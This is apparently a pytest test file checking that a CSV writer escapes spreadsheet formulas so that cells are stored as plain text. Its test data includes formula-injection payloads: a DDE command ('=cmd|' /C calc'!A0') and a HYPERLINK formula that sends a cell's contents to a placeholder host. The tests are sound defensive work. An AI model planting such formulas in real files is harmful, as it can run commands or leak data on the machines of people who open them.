"""Cells of CSV files are data for a spreadsheet, whatever text they hold."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import numpy as np
import pytest

from smart_train.core.spreadsheet import write_csv

FORMULAS = [
    "=1+1", "+1+1", "-2+3", "@SUM(A1)", '=HYPERLINK("https://host.example/?"&A1)', "  =1", "\t=1", "\r=1", "\n=1",
    "\uff1d1+1", "\uff20SUM(A1)", "=cmd|' /C calc'!A0",
]  # fmt: skip


def written(path, *cells):
    write_csv(path, ["a"], [cells])
    with path.open(encoding="utf-8", newline="") as stream:
        return next(reversed(list(csv.reader(stream))))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_a_text(tmp_path, text):
    assert written(tmp_path / "a.csv", text, "b") == ["'" + text, "b"]
    write_csv(tmp_path / "b.csv", [text], [])
    assert next(csv.reader((tmp_path / "b.csv").open(encoding="utf-8", newline=""))) == ["'" + text]


def test_numbers_and_plain_texts_stay(tmp_path):
    cells = [-0.5, 3, None, "a=b", "what is 1+1", "'quoted'", 'a, "b"', "-0.25", "+3", "-1e-5", np.float32(-0.5), True]
    row = written(tmp_path / "a.csv", *cells)
    assert row == ["" if cell is None else str(cell) for cell in cells]


@pytest.mark.parametrize("text", ["a;=1+1", "a; @SUM(A1)", "a\n=1+1", "a\r\n+1+cmd", "a\t-1+1", "a|=1"])
def test_no_other_separator_makes_a_formula_of_a_part(tmp_path, text):
    (cell,) = written(tmp_path / "a.csv", text)
    parts = re.split(r"[;|\t\r\n]", cell)
    assert cell.replace("'", "") == text and not any(part.lstrip().startswith(("=", "+", "-", "@")) for part in parts)


def test_what_is_no_text_is_looked_at_as_it_is_written(tmp_path):
    assert written(tmp_path / "a.csv", Path("=1+1"), ["@x"]) == ["'=1+1", "['@x']"]
